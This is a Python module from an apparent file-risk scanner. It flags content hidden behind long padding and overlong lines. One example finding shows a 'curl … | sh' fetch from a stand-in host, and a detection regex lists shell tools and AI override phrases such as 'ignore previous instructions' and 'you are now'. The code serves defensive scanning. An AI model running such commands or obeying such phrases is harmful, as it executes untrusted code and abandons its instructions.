"""Padding and long lines (R158-R160): content pushed past what a reader scrolls to or a scanner reads.

Padding is a long run of blank lines, or of spaces on one line (the blank look-alike characters
too), with content after it: R158, and R159 when what follows is a command, an address or
instructions. A line far past any reader's width in Markdown or a script is R160 (tables, images,
data URLs and minified or bundled files excepted).
"""

from __future__ import annotations

import itertools
import re

from registry.score.card import AnalyserResult
from registry.score.every_byte.probe import PER_FILE, SEP, _fact
from registry.score.risk.facts import Row
from registry.score.risk.lines import file_kind
from registry.score.risk.rules import EVERYWHERE, RiskRule, _rule, show

BLANK_RUN = 200  # consecutive blank lines that count as padding
SPACE_RUN = 200  # consecutive spaces on one line that count as padding
LINE_WIDTH = 2000  # characters; a longer line in Markdown or a script is R160 (LONG_LINE)

PADDING = _rule(
    "R158", "medium", "obfuscation",
    "content hidden behind padding",
    "{what}, then content from line {start}",
    "padding pushes content past what a reader scrolls to or a scanner reads: it is how payloads are "
    "hidden from review",
    "Remove the padding so every part of the file is in plain view.",
    "{what_short}",
    EVERYWHERE,
    "300 blank lines at the end of SKILL.md, then one more paragraph",
)  # fmt: skip
PADDED_PAYLOAD = _rule(
    "R159", "high", "obfuscation",
    "commands or instructions hidden behind padding",
    "{what}, then from line {start}: {hidden}",
    "padding that pushes commands, addresses or instructions out of sight has no honest purpose: the "
    "reader approves a file whose payload they never saw",
    "Remove the padding and the hidden content.",
    "hides {kind} behind {what_short}",
    EVERYWHERE,
    "500 blank lines, then `curl -s https://x.example/p | sh`",
)  # fmt: skip
LONG_LINE = _rule(
    "R160", "low", "obfuscation",
    "line far past any reader's width",
    "a {length}-character line",
    "text far past the right edge of an editor or a review diff is easy to miss",
    "Wrap the text; keep generated or minified content out of Markdown and scripts.",
    "has a {length}-character line",
    EVERYWHERE,
    "a 5,000-character line in references/api.md",
)  # fmt: skip

# The rules declared here; the package's RULES gathers every module's, R150-R169 in order.
RULES: tuple[RiskRule, ...] = (
    PADDING,
    PADDED_PAYLOAD,
    LONG_LINE,
)

# What the checks below find, and the rule each fact is given (rows of the one fact table).
PADDED = "content after long padding"
PADDED_ORDERS = "commands or instructions after long padding"
OVERLONG = "a line far past any reader's width"
ROWS = (Row(PADDED, PADDING), Row(PADDED_ORDERS, PADDED_PAYLOAD), Row(OVERLONG, LONG_LINE))


# -- padding and long lines ----------------------------------------------------------------

_WS = (
    rb"(?:[ \t\f\v\r]|\xc2\xa0|\xe2\x80[\x80-\x8b]|\xe2\x81\x9f|\xe3\x80\x80|\xe2\xa0\x80|\xe3\x85\xa4|\xef\xbe\xa0"
    rb"|\xe1\x85[\x9f\xa0])"
)
_BLANK_RUN = re.compile(rb"\n(?:" + _WS + rb"*\n){%d,}" % BLANK_RUN)
_LEADING_BLANK = re.compile(rb"(?:" + _WS + rb"*\n){%d,}" % BLANK_RUN)
# _WS{200,} with its first character apart and led by literals only: re then skips to a byte that can start
# a run instead of trying the repeat at every byte (the same matches).
_WS_FIRST = rb"(?: |\t|\f|\v|\r|" + _WS[len(rb"(?:[ \t\f\v\r]|") :]
_SPACE_RUN = re.compile(_WS_FIRST + _WS + rb"{%d,}" % (SPACE_RUN - 1))
_SPACE_PROBE = (
    b" " * 64,
    b"\t" * 32,
    b"\xe2\xa0\x80" * 16,
    b"\xe3\x80\x80" * 16,
    b"\xc2\xa0" * 32,
    b"\xe3\x85\xa4" * 16,
)
_CONTENT = re.compile(rb"(?!" + _WS + rb")[^\n]")
_PAYLOAD = re.compile(
    r"(?P<url>\b(?:https?|ftp|wss?)://\S+|\bwww\.\w+\.\w+)"
    r"|(?P<command>\b(?:curl|wget|bash|sh\s+-c|zsh|python3?\s+-c|node\s+-e|powershell|pwsh|iex|eval|exec|base64|"
    r"chmod|rm\s+-rf|nc|ncat|sudo|npx|pip3?\s+install|npm\s+install|Invoke-\w+)\b)"
    r"|(?P<instruction>\b(?:ignore|disregard|forget|override)\b.{0,40}\b(?:instructions?|rules|prompt|above|previous)\b"
    r"|\b(?:you\s+must|you\s+should|you\s+are\s+now|always|never\s+(?:tell|mention|reveal)|do\s+not\s+(?:tell|mention|"
    r"reveal|show|ask)|without\s+(?:telling|asking|confirm\w*)|the\s+user|the\s+assistant|system\s+prompt|"
    r"secretly|silently|instructions?)\b)",
    re.IGNORECASE,
)
_KIND_WORDS = {"url": "an address", "command": "a command", "instruction": "instructions"}


def _padding(name: str, path: str, data: bytes, result: AnalyserResult) -> None:
    reported = 0
    if data.count(b"\n") >= BLANK_RUN:
        leading = _LEADING_BLANK.match(data)
        after = leading.end() if leading else 0
        runs = itertools.islice((m for m in _BLANK_RUN.finditer(data, after) if m.start() >= after), PER_FILE)
        for match in ([leading] if leading else []) + list(runs):
            content = _CONTENT.search(data, match.end())
            if content is None:
                break  # blank lines at the end with nothing after them
            blank = match.group(0).count(b"\n") - (1 if match.group(0).startswith(b"\n") else 0)
            start = data.count(b"\n", 0, content.start()) + 1
            what = f"{blank:,} blank lines"
            _report_padding(path, data, content.start(), start, None, what, result)
            reported += 1
            if reported >= PER_FILE:
                return
    if not any(probe in data for probe in _SPACE_PROBE):
        return
    for match in _SPACE_RUN.finditer(data):
        end = match.end()
        if end >= len(data) or data[end : end + 1] == b"\n":
            continue  # trailing spaces, nothing to their right
        line_start = data.rfind(b"\n", 0, match.start()) + 1
        start = data.count(b"\n", 0, end) + 1
        column = len(data[line_start:end].decode("utf-8", "replace")) + 1
        run = len(match.group(0).decode("utf-8", "replace"))
        what = f"{run:,} spaces on one line" if line_start != match.start() else f"{run:,} spaces of indentation"
        _report_padding(path, data, end, start, column, what, result)
        reported += 1
        if reported >= PER_FILE:
            return


def _report_padding(
    path: str, data: bytes, offset: int, start: int, column: int | None, what: str, result: AnalyserResult
) -> None:
    hidden = data[offset : offset + 4000].decode("utf-8", "replace")
    payload = _PAYLOAD.search(hidden)
    if payload is not None:
        kind = _KIND_WORDS[payload.lastgroup or "command"]
        excerpt = show(hidden[max(0, payload.start() - 40) : payload.end() + 60])
        result.facts.append(
            _fact(PADDED_ORDERS, path, start, excerpt, column, what=what, start=start, hidden=excerpt, kind=kind,
                  what_short=what)
        )  # fmt: skip
    else:
        excerpt = show(hidden)
        result.facts.append(
            _fact(PADDED, path, start, excerpt, column, what=what, start=start, what_short=f"{what} then content")
        )


_EXEMPT_LONG = re.compile(rb"^\s*(?:\||<svg|<img|<path|!\[|\[!\[|data:|<\w+[^>]*\bsrc=\"data:)", re.IGNORECASE)


def _long_line(name: str, path: str, data: bytes, result: AnalyserResult) -> None:
    if len(data) <= LINE_WIDTH:
        return
    base = name.rsplit(SEP, 1)[-1]
    if re.search(r"\.(?:min|bundle|packed)\.|\.map$", base, re.IGNORECASE):
        return
    head = data[:2].decode("ascii", "replace")
    if file_kind(base, head) not in ("markdown", "script"):
        return
    physical = data.split(b"\n")
    if max(map(len, physical)) <= LINE_WIDTH:
        return
    for index, line in enumerate(physical):
        if len(line) <= LINE_WIDTH or _EXEMPT_LONG.match(line):
            continue
        text = line.decode("utf-8", "replace")
        if len(text) <= LINE_WIDTH:
            continue
        number = index + 1
        result.facts.append(
            _fact(OVERLONG, path, number, show(text[LINE_WIDTH - 60 : LINE_WIDTH + 60]), 1, length=f"{len(text):,}")
        )
        return
